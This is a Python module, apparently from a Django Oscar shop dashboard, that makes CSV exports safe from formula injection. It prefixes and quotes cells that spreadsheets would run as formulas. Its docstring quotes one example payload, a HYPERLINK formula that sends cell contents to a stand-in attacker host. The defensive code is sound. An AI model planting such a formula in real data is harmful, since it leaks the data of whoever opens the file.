"""CSV files a spreadsheet opens without running anything in them.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read as a formula by Excel, LibreOffice and Google Sheets; a buyer's name
such as ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would then run in
the spreadsheet of whoever opens the export. As OWASP's CSV-injection rule
says, every such cell is prefixed with a single quote, and every field is
quoted. The rule holds for every cell, numbers included: prices, totals and
counts are never negative here, and a negative number would read as text
(``'-5``) rather than be left executable.
"""

from __future__ import annotations

import csv

from oscar.core.compat import UnicodeCSVWriter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value) -> str:
    """``value`` as text that no spreadsheet reads as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class InertCSVWriter(UnicodeCSVWriter):
    """Oscar's CSV writer (Excel dialect, optional BOM) with every field quoted
    and every cell made inert; every export of the dashboard writes with it."""

    def __init__(self, *args, **kwargs):
        kwargs.setdefault("quoting", csv.QUOTE_ALL)
        super().__init__(*args, **kwargs)

    def writerow(self, row):
        super().writerow([inert_cell(value) for value in row])
